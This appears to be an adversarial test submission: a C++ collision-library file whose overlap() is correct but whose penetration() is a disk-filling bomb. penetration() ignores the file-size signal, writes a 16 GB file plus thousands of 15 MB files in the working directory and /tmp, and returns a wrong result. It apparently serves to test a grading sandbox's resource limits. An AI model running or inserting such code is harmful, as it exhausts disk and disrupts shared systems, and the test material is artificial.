// Lesson 01, adversarial (file_bomb): overlap() is right; penetration() tries to fill the disk,
// with one huge file, then with many large ones.
#include <cmath>
#include <csignal>
#include <cstdio>
#include <string>

#include "aabb.hpp"

namespace collide {

static bool valid(const Aabb& b) {
    return !std::isnan(b.minx) && !std::isnan(b.miny) && !std::isnan(b.maxx) &&
           !std::isnan(b.maxy) && b.minx <= b.maxx && b.miny <= b.maxy;
}

bool overlap(const Aabb& a, const Aabb& b) {
    if (!valid(a) || !valid(b)) return false;
    return !(a.maxx < b.minx || b.maxx < a.minx || a.maxy < b.miny || b.maxy < a.miny);
}

static void fill(const std::string& path, int megabytes) {
    static char block[1 << 20];
    std::FILE* f = std::fopen(path.c_str(), "wb");
    for (int i = 0; f && i < megabytes; ++i)
        if (std::fwrite(block, 1, sizeof block, f) != sizeof block) break;
    if (f) std::fclose(f);
}

Vec2 penetration(const Aabb& a, const Aabb& b) {
    std::signal(SIGXFSZ, SIG_IGN);  // keep going past the file-size limit
    fill("bomb.bin", 1 << 14);                                   // 16 GB in one file
    for (int i = 0; i < 2000; ++i) fill("bomb" + std::to_string(i) + ".bin", 15);  // 30 GB
    for (int i = 0; i < 200; ++i) fill("/tmp/bomb" + std::to_string(i) + ".bin", 15);
    return {a.minx - b.minx, 0};
}

} // namespace collide
